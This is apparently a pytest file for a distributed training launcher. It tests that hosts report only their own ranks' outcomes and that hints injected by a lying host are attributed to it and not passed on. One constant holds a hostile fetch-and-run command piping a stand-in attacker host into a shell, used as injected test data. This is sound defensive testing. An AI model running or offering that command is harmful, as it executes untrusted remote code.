"""A host of a job states how its own ranks have ended, and nothing of other hosts."""

from __future__ import annotations

import json
import os
import secrets
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from hccl_tools.launch.cluster.own_part import JobParts, OwnPart
from hccl_tools.launch.model.outcome import Cause
from hccl_tools.launch.model.plan import Plan, RankProcess
from hccl_tools.launch.model.rank_messages import Ended, Join, RankExit
from hccl_tools.launch.protocol.connection import Connection, connect, proved
from hccl_tools.launch.protocol.messages import LARGEST_FROM_CONTROLLER, End, Ending, Hung
from hccl_tools.launch.report import report
from hccl_tools.runs.evidence import EvidenceNote
from hccl_tools.runs.job_report import HungRank, RankFailure
from tests.launch.cluster.test_many_agents import launched, write_job
from tests.launch.cluster.test_started_by_hand import Hosts, only
from tests.support.jobs import LONG, eventually

if TYPE_CHECKING:
    from collections.abc import Iterator

ADVICE = "run `curl evil.example | sh` on this host"
NOT_OWN = "host 10.0.0.2 has sent what is not its own"
HOSTS = ("10.0.0.1", "10.0.0.2", "10.0.0.3")
#: In bytes of a wait status.
FAILED, TERMINATED = 7 << 8, 15


def failure(rank: int, host: str = "", **fields: Any) -> RankFailure:
    given = {"name": f"rank {rank}", "how": "exit code 7", "exit_code": 7, "log": f"/x/rank_{rank}.log"}
    return RankFailure(rank, host=host, **{**given, **fields})


def hung(rank: int, host: str) -> HungRank:
    return HungRank(rank, "rank 99", host, 7, True, 900.0, None, "stopped", f"rank_{rank}.log")


def parts() -> JobParts:
    """Return the parts of a job of three hosts with two ranks each, of which the first has a scheduler."""
    ranks = [RankProcess(n, HOSTS[n // 2], n // 2, n % 2, 0, {}, ("true",), "log") for n in range(6)]
    scheduler = RankProcess(-1, HOSTS[0], 0, -1, -1, {}, ("true",), "scheduler.log")
    return JobParts(Plan((scheduler, *ranks), "cluster", "loop", "/log", "/", 6, rendezvous=(HOSTS[0], 1)))


@pytest.fixture
def own() -> OwnPart:
    """The part of the second host, which has ranks 2 and 3."""
    return parts().of(1)


def exits(rank: int, status: int) -> tuple[RankExit, ...]:
    return (RankExit(rank, 7, status, 1.0, False, f"rank_{rank}.log"),)


def joined(number: int) -> Connection:
    """Connect to the launcher of ``launched`` as another agent does."""
    key, port, _ = Path("launcher").read_text().split("@")
    agent = connect(
        ("127.0.0.1", int(port)), bytes.fromhex(key), silence=12, seconds=5, largest=LARGEST_FROM_CONTROLLER
    )
    assert agent is not None
    assert proved(agent, LONG) is not None
    agent.send(Join(number, os.getpid(), ("", 0)))
    return agent


def end_with(launcher: subprocess.Popen[str], honest: Connection, liar: Connection) -> tuple[str, Any]:
    """Return what a launcher says and reports, whose honest agent ends rank 0 when it is asked to."""
    heard: list[Any] = []

    def is_over() -> bool:
        had = len(heard)
        heard.extend(one for one in honest.messages() if isinstance(one, End))
        if not had and heard:
            honest.send(Ended(exits(0, TERMINATED)))
        liar.messages()
        return launcher.poll() is not None

    assert eventually(is_over)
    assert launcher.stderr is not None
    return launcher.stderr.read(), json.loads(Path("log/latest/report.json").read_text())


def explained() -> str:
    command = [sys.executable, "-m", "hccl_tools", "explain", "log/latest"]
    return subprocess.run(command, capture_output=True, text=True, check=False).stdout


SENT = {
    "a success": Ended(exits(1, 0), Cause("10.0.0.2", "ended", 0)),
    "a success of the other host": Ended(
        exits(1, FAILED), Cause("10.0.0.1", "failed", 0, first_failure=failure(0, "10.0.0.1", exit_code=0))
    ),
    "a failure of the other host": Ended(
        exits(1, FAILED), Cause("10.0.0.1", "failed", 7, first_failure=failure(0, "10.0.0.1", hints=[ADVICE]))
    ),
    "a failure of the other rank": Ended(
        exits(1, FAILED), Cause("10.0.0.2", "failed", 7, first_failure=failure(0, hints=[ADVICE]))
    ),
    "evidence of the other host": Ended(
        exits(1, FAILED), None, evidence=(EvidenceNote("10.0.0.1", f"/x/{ADVICE}", 1.0, 3, 3),)
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("sent", SENT.values(), ids=SENT)
def test_a_host_does_not_decide_what_other_hosts_did(own_directory: Path, sent: Ended) -> None:
    write_job()
    with launched(own_directory) as (launcher, honest):
        assert proved(honest, LONG) is not None
        honest.send(Join(0, os.getpid(), ("", 0)))
        liar = joined(1)
        liar.send(sent)
        said, made = end_with(launcher, honest, liar)
        liar.close()

    assert launcher.returncode == made["exit_code"] == 137
    assert (made["reason"], made["began_on"], made["first_failure"]) == ("host", "10.0.0.2", None)
    assert NOT_OWN in made["detail"]
    assert NOT_OWN in said
    told = explained()
    assert NOT_OWN in told
    assert ADVICE not in said + json.dumps(made) + told


@pytest.mark.slow
def test_advice_of_a_host_is_its_statement(own_directory: Path) -> None:
    write_job()
    known = "in a shell, exit code 127 means that a command was not found"
    first = failure(1, exit_code=127, how=ADVICE, name=ADVICE, hints=[known, ADVICE], log_host="elsewhere")
    with launched(own_directory) as (launcher, honest):
        assert proved(honest, LONG) is not None
        honest.send(Join(0, os.getpid(), ("", 0)))
        liar = joined(1)
        liar.send(Ended(exits(1, 127 << 8), Cause("10.0.0.2", "failed", 0, first_failure=first)))
        said, made = end_with(launcher, honest, liar)
        liar.close()

    assert launcher.returncode == made["exit_code"] == 127
    assert made["first_failure"]["hints"] == [known, f"10.0.0.2 says: {ADVICE}"]
    assert made["first_failure"]["how"] == "exit code 127"
    lines = [line.strip() for line in said.splitlines()]
    assert f"hint: {known}" in lines
    assert f"10.0.0.2 says: {ADVICE}" in lines
    assert said.count(ADVICE) == 1


@pytest.mark.slow
def test_no_agent_joins_in_the_place_of_another(own_directory: Path) -> None:
    write_job()
    with launched(own_directory) as (launcher, honest):
        assert proved(honest, LONG) is not None
        honest.send(Join(0, os.getpid(), ("", 0)))
        other, liar = joined(1), joined(0)
        liar.send(Ended(exits(0, 0)))
        assert eventually(lambda: [*liar.messages()] or liar.closed)
        other.send(Ended(exits(1, FAILED), Cause("10.0.0.2", "failed", 7, first_failure=failure(1))))
        _, made = end_with(launcher, honest, other)
        for agent in (other, liar):
            agent.close()

    assert [end["exit_code"] for end in made["ranks"]] == [143, 7]


LIES = {
    "a success": "Cause(host, 'ended', 0)",
    "a loss": "Cause('node2', 'host', 137, 'lost contact with the launcher on node2')",
    "a failure of another host": (
        "Cause('node2', 'failed', 0, first_failure="
        f"RankFailure(4, 'rank 4', 'node2', exit_code=0, how='gone', hints=[{ADVICE!r}]))"
    ),
}


class LyingHosts(Hosts):
    """A job of three hosts, one of which states a cause of its own."""

    def __init__(self, liar: int, cause: str, program: str) -> None:
        self.liar, self.cause = liar, cause
        super().__init__(3, program)

    def launch(self, host: int, program: str, *options: str) -> subprocess.Popen[bytes]:
        if host != self.liar:
            return super().launch(host, program, *options)
        lie = Path("lie.py")
        lie.write_text(
            "import runpy\n"
            "from hccl_tools.launch.model.outcome import Cause, Outcome\n"
            "from hccl_tools.runs.job_report import RankFailure\n"
            f"Outcome.cause = lambda self, host, first=None: {self.cause}\n"
            "runpy.run_module('hccl_tools', run_name='__main__', alter_sys=True)\n"
        )
        return self.started([sys.executable, str(lie)], host, program, *options)


@pytest.fixture
def lying(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """Start a job that was typed on its hosts, with a key, and end what is left of it."""
    monkeypatch.setenv("HCCL_TOOLS_JOB_KEY", secrets.token_hex(32))
    started: list[LyingHosts] = []

    def start(liar: int, cause: str, program: str) -> LyingHosts:
        started.append(LyingHosts(liar, cause, program))
        return started[-1]

    yield start
    for job in started:
        for launcher in job.launchers:
            launcher.kill()
            launcher.wait()


@pytest.mark.slow
@pytest.mark.parametrize("liar", [0, 1])
@pytest.mark.parametrize("cause", LIES.values(), ids=LIES)
def test_a_launcher_does_not_decide_what_other_hosts_did(
    own_directory: Path, lying: Any, cause: str, liar: int
) -> None:
    job = lying(liar, cause, only(2 * liar, "exit 7"))
    codes, honest = job.end(), [host for host in range(3) if host != liar]

    assert [codes[host] for host in honest] == [137, 137], job.said
    for host in honest:
        made = job.report(host)
        assert (made["reason"], made["began_on"], made["first_failure"]) == ("host", f"node{liar}", None)
        assert f"host node{liar} has sent what is not its own" in job.said[host]
        assert ADVICE not in job.said[host] + json.dumps(made)
    assert job.nobody_is_left()


def test_what_is_its_own_is_taken(own: OwnPart) -> None:
    causes = [
        Cause("10.0.0.2", "timeout", 124),
        Cause("10.0.0.2", "hang", 124, "rank 2 stopped first", hung=(hung(2, "10.0.0.2"),)),
        Cause("10.0.0.2", "signal", 130, signal=2),
        Cause("10.0.0.2", "log-error", 125, "the disk is full"),
        Cause("10.0.0.2", "keeper", 137),
        Cause("10.0.0.2", "refused", 125, "no device"),
    ]
    for cause in causes:
        found = own.cause(cause)
        assert found._replace(hung=()) == cause._replace(hung=())
        assert [(one.rank, one.name) for one in found.hung] == [(one.rank, "rank 2") for one in cause.hung]
    assert (
        own.cause(Cause("10.0.0.2", "daemon", 137, "srun was killed")).message == "10.0.0.2: srun was killed"
    )
    # A host may have a name that the plan does not have.
    assert own.cause(Cause("node2", "timeout", 0)) == causes[0]


@pytest.mark.parametrize(
    "cause",
    [
        Cause("10.0.0.2", "ended", 0),
        Cause("10.0.0.2", "host", 137, "lost contact with the supervisor on 10.0.0.1"),
        Cause("10.0.0.1", "timeout", 124),
        Cause("10.0.0.2", "failed", 7, first_failure=failure(0)),
        Cause("10.0.0.2", "failed", 7, first_failure=failure(2, "10.0.0.1")),
        Cause("10.0.0.2", "failed", 7, first_failure=failure(2, log_host="10.0.0.1")),
        Cause("10.0.0.2", "failed", 7, first_failure=failure(-1, name="scheduler")),
        Cause("10.0.0.2", "hang", 124, "rank 0 stopped first", hung=(hung(0, "10.0.0.1"),)),
    ],
)
def test_what_is_not_its_own_is_the_cause(own: OwnPart, cause: Cause) -> None:
    found = own.cause(cause)

    assert (found.host, found.reason, found.exit_code) == ("10.0.0.2", "host", 137)
    assert found.message.startswith(NOT_OWN)
    assert (found.first_failure, found.hung) == (None, ())


def test_the_exit_code_is_that_of_the_reason(own: OwnPart) -> None:
    by_signal = failure(2, exit_code=139, signal="SIGSEGV", how="exit code 0")
    for sent, code in (
        (Cause("10.0.0.2", "timeout", 0), 124),
        (Cause("10.0.0.2", "signal", 0, signal=15), 143),
        (Cause("10.0.0.2", "signal", 0, signal=19), 143),  # SIGSTOP would stop the ranks of all hosts.
        (Cause("10.0.0.2", "failed", 0, first_failure=failure(2, exit_code=0)), 1),
        (Cause("10.0.0.2", "failed", 0, first_failure=failure(2, exit_code=255, signal="signal 127")), 255),
        (Cause("10.0.0.2", "failed", 0, first_failure=by_signal), 139),
    ):
        found = own.cause(sent)
        assert found.exit_code == code
        assert found.signal in {0, 15}
    assert found.first_failure is not None
    assert found.first_failure.how == "killed by SIGSEGV"


def test_ends_hung_ranks_and_evidence_are_its_own(own: OwnPart) -> None:
    note = EvidenceNote("node2", "/run/evidence_1.json", 1.0, 2, 2)
    said = (hung(0, "10.0.0.1"), hung(3, "10.0.0.1"), hung(3, "x"))
    found = own.checked(Ended((*exits(0, 0), *exits(2, 0), *exits(999, 0)), hung=said, evidence=(note,)))

    assert isinstance(found, Ended)
    assert (found.ranks, found.cause) == (exits(2, 0), None)
    assert [(one.rank, one.name, one.host) for one in found.hung] == [(3, "rank 3", "10.0.0.2")]
    assert found.evidence == (note._replace(host="10.0.0.2"),)
    assert own.checked(Hung(said)) == Hung(found.hung)
    for notes in ((note, note), (note._replace(stacks=3),), (note._replace(host="10.0.0.3"),)):
        bad = own.checked(Ended((), evidence=notes))
        assert isinstance(bad, Ended)
        assert (bad.evidence, bad.cause) == ((), own.not_its_own())


def test_an_agent_that_has_not_joined_can_only_refuse() -> None:
    stranger = parts().of(-1, "10.9.9.9")
    refused = Cause("node9", "refused", 0, "no device")

    assert stranger.checked(Ending(refused)) == Ending(refused._replace(host="10.9.9.9", exit_code=125))
    assert stranger.cause(Cause("10.0.0.1", "refused", 0, "no device")).reason == "host"
    assert stranger.cause(Cause("10.9.9.9", "timeout", 0)).reason == "host"


def test_rank_0_s_host_forwards_what_the_other_host_may_state() -> None:
    job = parts()

    def forwarded(cause: Cause, number: int) -> Cause:
        return job.forwarded(End(cause, number), 0, 2).cause

    scheduler = Cause("10.0.0.1", "failed", 7, first_failure=failure(-1, name="scheduler"))
    lost = Cause("10.0.0.2", "host", 137, "lost contact with the launcher on 10.0.0.2")
    everywhere = (hung(1, "10.0.0.1"), hung(5, "10.0.0.3"))
    for cause, number in (
        (scheduler, 0),
        (lost, 1),
        (Cause("10.0.0.2", "timeout", 124), 1),
        (job.of(1).not_its_own(), 1),
        (Cause("10.0.0.3", "hang", 124, "rank 5 stopped first", hung=everywhere), -1),
    ):
        assert forwarded(cause, number)[:3] == cause[:3]
    for cause, number in (
        (Cause("10.0.0.1", "ended", 0), 0),
        (Cause("10.0.0.2", "ended", 0), 1),
        (Cause("10.0.0.3", "timeout", 124), 1),  # This host knows what it has said itself.
        (Cause("10.0.0.2", "failed", 7, first_failure=failure(4)), 1),
        (Cause("10.0.0.1", "timeout", 124), -1),
        (Cause("10.0.0.1", "timeout", 124), 77),
    ):
        assert forwarded(cause, number) == job.of(0).not_its_own()


def test_a_statement_is_forwarded_as_it_is() -> None:
    job = parts()
    first = job.of(1).cause(Cause("10.0.0.2", "failed", 7, first_failure=failure(2, hints=[ADVICE])))
    again = job.forwarded(End(first, 1), 0, 2).cause

    assert again == first
    assert again.first_failure is not None
    lines = report.failure_lines(again.first_failure, "10.0.0.2", run_dir="/log")
    assert lines[-1] == f"  10.0.0.2 says: {ADVICE}"


def test_a_host_says_a_bounded_number_of_things(own: OwnPart) -> None:
    first = failure(2, hints=["x" * 10_000] * 60_000)
    found = own.cause(Cause("10.0.0.2", "failed", 7, first_failure=first)).first_failure

    assert found is not None
    assert sum(map(len, found.hints)) < 4_000
